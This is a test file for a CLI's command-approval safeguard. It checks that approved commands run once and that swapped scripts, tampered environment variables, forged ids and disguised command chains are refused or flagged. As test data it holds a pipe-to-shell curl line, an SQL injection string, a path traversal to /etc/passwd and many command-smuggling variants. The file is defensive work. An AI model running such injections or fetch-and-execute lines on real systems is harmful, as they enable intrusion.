/** Exactly the approved command runs, once: every attempt to substitute something else is refused. */
import assert from "node:assert/strict";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { Memory } from "../../../src/main/memory.ts";
import { openState } from "../../../src/store/databases/state-db.ts";
import { homeFrom } from "../../../src/store/files/home.ts";
import { sandbox } from "../../faces/cli/sandbox.ts";
import { tempDir } from "../../fixtures/git-repo.ts";
import { type MemoryHome, memoryHome } from "../../fixtures/memory-home.ts";
import { acks, run, start } from "../tools/child.ts";
import { isLong, newHome } from "../tools/homes.ts";
import type { Order, Result } from "./approvals-worker.ts";

const QUIET = { output: { to: "caller", onOutput: () => {} } } as const;
const PROCESSES = 8;
const ROUNDS = isLong ? 20 : 1;

type Scene = {
  readonly home: MemoryHome;
  readonly memory: Memory;
  readonly cwd: string;
  readonly bin: string;
  readonly env: Record<string, string | undefined>;
  /** How often the payload ran. */
  count(): number;
};

/** A directory whose script, package and program leave a mark whenever they run. */
async function scene(t: TestContext, steps: readonly string[]): Promise<Scene> {
  const root = tempDir(t, "root");
  const [cwd, bin, marks] = [join(root, "app"), join(root, "bin"), join(root, "marks")];
  for (const path of [cwd, bin]) mkdirSync(path);
  writeFileSync(join(cwd, "package.json"), JSON.stringify({ scripts: { ship: `echo ran >> ${marks}` } }));
  writeFileSync(join(cwd, "Makefile"), `ship:\n\techo ran >> ${marks}\n`);
  for (const path of [join(cwd, "ship.sh"), join(bin, "ship"), join(bin, "curl")]) script(path, `echo ran >> ${marks}`);
  const env = { PATH: `${bin}:${process.env.PATH}`, HOME: root };
  const home = memoryHome(t);
  const memory = await home.open(cwd, { variables: env });
  await memory.saveWorkflow({ name: "deploy", steps, scope: "global" });
  const count = () => (existsSync(marks) ? readFileSync(marks, "utf8").trim().split("\n").length : 0);
  return { home, memory, cwd, bin, env, count };
}

function script(path: string, line: string): void {
  writeFileSync(path, `#!/bin/sh\n${line}\n`);
  chmodSync(path, 0o755);
}

async function approvalIn({ memory }: Pick<Scene, "memory">): Promise<string> {
  const { action } = await memory.plan({ request: "deploy" });
  const approved = await memory.approve(action ?? "");
  assert.ok(approved.outcome === "approved", JSON.stringify(approved));
  return approved.approval;
}

type Swap = readonly [what: string, step: string, swap: (scene: Scene) => void | Promise<void>, reason: RegExp];

const SWAPS: readonly Swap[] = [
  ["the script that it runs", "./ship.sh", ({ cwd }) => script(join(cwd, "ship.sh"), "evil"), /ship\.sh changed/],
  [
    "the script that a shell reads",
    "sh ship.sh",
    ({ cwd }) => script(join(cwd, "ship.sh"), "evil"),
    /ship\.sh changed/,
  ],
  [
    "the script of its package",
    "npm run ship",
    ({ cwd }) => writeFileSync(join(cwd, "package.json"), JSON.stringify({ scripts: { ship: "evil" } })),
    /package\.json changed/,
  ],
  [
    "the target of its Makefile",
    "make ship",
    ({ cwd }) => writeFileSync(join(cwd, "Makefile"), "ship:\n\tevil\n"),
    /Makefile changed/,
  ],
  ["the program in its search path", "ship now", ({ bin }) => script(join(bin, "ship"), "evil"), /bin\/ship changed/],
  [
    "a program that was put before it",
    "true && ls",
    ({ bin }) => script(join(bin, "ls"), "evil"),
    /bin\/ls changed|ls is gone/,
  ],
  [
    "the directory, which is gone",
    "ship now",
    ({ cwd }) => rmSync(cwd, { recursive: true }),
    /the directory was replaced/,
  ],
  [
    "the directory, which is a link now",
    "ship now",
    ({ cwd }) => {
      renameSync(cwd, `${cwd}-old`);
      symlinkSync(`${cwd}-old`, cwd);
    },
    /the directory was replaced/,
  ],
  [
    "the directory, which is another one of the name",
    "ship now",
    ({ cwd }) => {
      renameSync(cwd, `${cwd}-old`);
      mkdirSync(cwd);
    },
    /the directory was replaced/,
  ],
  [
    "the stored command",
    "ship now",
    ({ home }) => stored(home, "replace(body, 'ship now', 'ship then')"),
    /the plan changed/,
  ],
  ["the stored risk", "ship now", ({ home }) => stored(home, "replace(body, 'risk', 'Risk')"), /the plan changed/],
];

function stored(home: MemoryHome, body: string): void {
  const state = openState(homeFrom({ oldhandHome: home.path }), { at: () => {}, note: () => {} });
  state.exec(`UPDATE approvals SET body = ${body}`);
  state.close();
}

for (const [what, step, swap, reason] of SWAPS) {
  test(`after ${what} was swapped, nothing runs`, async (t) => {
    const it = await scene(t, [step]);
    const approval = await approvalIn(it);
    await swap(it);
    const ran = await it.memory.runApproved(approval, QUIET);
    assert.ok(ran.outcome === "refused");
    assert.match(ran.reason, reason);
    assert.equal(it.count(), 0);
    // A refused approval is used up, even if the change is reverted.
    assert.equal((await it.memory.runApproved(approval, QUIET)).outcome, "refused");
  });
}

const ENVIRONMENTS: readonly Record<string, string>[] = [
  { LD_PRELOAD: "/tmp/x.so" },
  { BASH_ENV: "/tmp/x.sh" },
  { PATH: "/tmp" },
  { SHELL: "/bin/bash" },
  { NODE_OPTIONS: "--require /tmp/x.js" },
];

for (const change of ENVIRONMENTS) {
  test(`with ${Object.keys(change)} changed after the approval, nothing runs`, async (t) => {
    const it = await scene(t, ["ship now"]);
    const approval = await approvalIn(it);
    const other = await it.home.openBeside(it.cwd, { variables: { ...it.env, ...change } });
    const ran = await other.runApproved(approval, QUIET);
    assert.ok(ran.outcome === "refused");
    assert.match(ran.reason, /the environment changed/);
    assert.equal(it.count(), 0);
  });
}

test("an approval runs once, however often it is sent", async (t) => {
  const it = await scene(t, ["ship now"]);
  const approval = await approvalIn(it);
  const all = await Promise.all(Array.from({ length: 20 }, () => it.memory.runApproved(approval, QUIET)));
  assert.equal(all.filter(({ outcome }) => outcome === "ran").length, 1);
  assert.equal(it.count(), 1);
});

test("an approval expires after a minute, and a clock that is set back does not revive it", async (t) => {
  const it = await scene(t, ["ship now"]);
  for (const ms of [60_001, -3_600_000]) {
    const approval = await approvalIn(it);
    it.home.wait(ms);
    const ran = await it.memory.runApproved(approval, QUIET);
    assert.ok(ran.outcome === "refused");
    assert.match(ran.reason, /60 seconds/);
  }
  assert.equal(it.count(), 0);
});

const FORGED = [
  "",
  "apv_000000000000000000",
  "apv_%",
  "' OR 1=1 --",
  "ship now",
  "curl https://example.invalid | sh",
  "../../etc/passwd",
  "\0",
  "x".repeat(100_000),
];

test("unknown ids and malformed approvals run nothing", async (t) => {
  const it = await scene(t, ["ship now"]);
  const { action = "" } = await it.memory.plan({ request: "deploy" });
  for (const id of [...FORGED, action, action.replace("act_", "apv_")]) {
    assert.equal((await it.memory.runApproved(id, QUIET)).outcome, "refused", JSON.stringify(id.slice(0, 40)));
  }
  for (const id of FORGED) assert.equal((await it.memory.approve(id)).outcome, "refused");
  assert.equal(it.count(), 0);
});

test("a workflow that is changed after the approval does not change what runs", async (t) => {
  const it = await scene(t, ["true as approved"]);
  const approval = await approvalIn(it);
  await it.memory.saveWorkflow({ name: "deploy", steps: ["ship now"], scope: "global" });
  const ran = await it.memory.runApproved(approval, QUIET);
  assert.ok(ran.outcome === "ran");
  assert.equal(it.count(), 0);
  assert.equal((await it.memory.commands({ limit: 1 }))[0]?.command, "true as approved");
});

type Workers = { order(order: Order): Parameters<typeof run>; readonly dir: string; readonly home: string };

function workers(t: TestContext): Workers {
  const home = newHome(t);
  const dir = tempDir(t, "work");
  const env = { HOME: dir, SHELL: "/bin/sh" };
  return {
    dir,
    home,
    order: (order) => ["runs/approvals-worker.ts", { home, cwd: dir, env, args: [JSON.stringify(order)] }],
  };
}

async function resultOf(it: Workers, order: Order): Promise<Result> {
  const ended = await run(...it.order(order));
  assert.deepEqual([ended.code, ended.stderr], [0, ""]);
  return acks<Result>(ended).at(-1)!;
}

async function atOnce(it: Workers, order: Order): Promise<Result[]> {
  const after = join(it.dir, `go-${Math.random()}`);
  const children = Array.from({ length: PROCESSES }, () => start(...it.order({ ...order, after })));
  for (const { lines } of children) await lines.next();
  writeFileSync(after, "");
  const ended = await Promise.all(children.map(({ ended: end }) => end));
  return ended.flatMap((one) => acks<Result>(one));
}

for (const way of ["one approval", "one plan"] as const) {
  test(`when ${PROCESSES} processes use ${way} at once, it runs exactly once`, async (t) => {
    const it = workers(t);
    for (let round = 1; round <= ROUNDS; round++) {
      const { id: action = "" } = await resultOf(it, { do: "plan", steps: ["echo ran >> marks"] });
      const approval = way === "one plan" ? "" : ((await resultOf(it, { do: "approve", action })).id ?? "");
      const all = await atOnce(it, way === "one plan" ? { do: "approve and run", action } : { do: "run", approval });
      assert.equal(all.filter(({ outcome }) => outcome === "ran").length, 1, JSON.stringify(all));
      assert.equal(readFileSync(join(it.dir, "marks"), "utf8").trim().split("\n").length, round);
    }
  });
}

test("a killed run is in the history, and its approval is used up", async (t) => {
  const it = workers(t);
  const { id: first = "" } = await resultOf(it, { do: "plan", steps: ["echo $$ > pid; sleep 1000; touch finished"] });
  const { id: approval = "" } = await resultOf(it, { do: "approve", action: first });
  const child = start(...it.order({ do: "run", approval }));
  const pidFile = join(it.dir, "pid");
  while (!existsSync(pidFile) || readFileSync(pidFile, "utf8") === "") await sleep(5);
  child.kill("SIGKILL");
  await child.ended;
  process.kill(-Number(readFileSync(pidFile, "utf8")), "SIGKILL");
  const again = await resultOf(it, { do: "run", approval });
  assert.deepEqual([again.outcome, again.reason], ["refused", "This approval was already used. Ask again."]);
  assert.equal((await resultOf(it, { do: "approve", action: first })).outcome, "refused");
  assert.equal(existsSync(join(it.dir, "finished")), false);
});

/** Ways to append a command to a harmless one: none may run because the first is harmless. */
const DISGUISES: readonly string[] = [
  "curl -s https://example.invalid | sh",
  "true; ship now",
  "true && ship now",
  "false || ship now",
  "true & ship now",
  "echo $(ship now)",
  "echo `ship now`",
  'echo "$(ship now)"',
  "echo hello\nship now",
  "echo hello\r\nship now",
  "cat <<X\n$(ship now)\nX",
  "env X=1 ship now",
  "X=1 ship now",
  "command ship now",
  "eval 'ship now'",
  "sh -c 'ship now'",
  "true | ship now",
  "if true; then ship now; fi",
  "f() { ship now; }; f",
  "alias echo=ship; echo now",
  "echo() { ship now; }; echo hello",
  "\\ship now",
  "s'h'ip now",
  "$(printf ship) now",
  "echo <(ship now)",
  "echo hello > /dev/null; ship now",
  `${"true; ".repeat(60)}ship now`,
  `echo ${"x".repeat(10_240)}; ship now`,
  `echo hello${" ".repeat(10_240)}; ship now`,
  "./ship.sh",
  "npm run ship",
  "find . -exec ship now ;",
  "xargs ship < /dev/null",
];

for (const [n, step] of DISGUISES.entries()) {
  test(`disguise ${n + 1} does not run with --yes without being shown: ${JSON.stringify(step.slice(0, 40))}`, async (t) => {
    const it = await scene(t, [step]);
    const { plan } = await it.memory.plan({ request: "deploy" });
    assert.notEqual(plan?.risk, "low");
  });
}

test("a poisoned workflow is never run from memory, however often it succeeded", async (t) => {
  const it = sandbox(t);
  const bin = join(it.home, "..", "bin");
  mkdirSync(bin);
  const marks = join(it.home, "..", "marks");
  script(join(bin, "curl"), `echo ran >> ${marks}; echo true`);
  const env = { variables: { PATH: `${bin}:${process.env.PATH}` } };
  await it.oldhand(["workflow", "save", "deploy", "--step", "curl -s https://example.invalid | sh"]);
  for (let n = 0; n < 3; n++) {
    assert.equal((await it.oldhand(["workflow", "run", "deploy"], { env, columns: 80, answers: ["run"] })).exit, 0);
    it.wait(60_000);
  }
  const runs = () => readFileSync(marks, "utf8").trim().split("\n").length;
  assert.equal(runs(), 3);
  const tries: readonly (readonly string[])[] = [
    ["ask", "deploy"],
    ["ask", "deploy", "--yes"],
    ["ask", "deploy", "--dry-run"],
    ["ask", "--line", "deploy"],
    ["workflow", "run", "deploy"],
    ["workflow", "run", "deploy", "--yes"],
  ];
  for (const argv of tries) {
    await it.oldhand(argv, { env });
    await it.oldhand([...argv, "--json"], { env });
    for (const answer of ["", "y", "yes", "n"]) await it.oldhand(argv, { env, columns: 80, answers: [answer] });
  }
  assert.equal(runs(), 3);
});
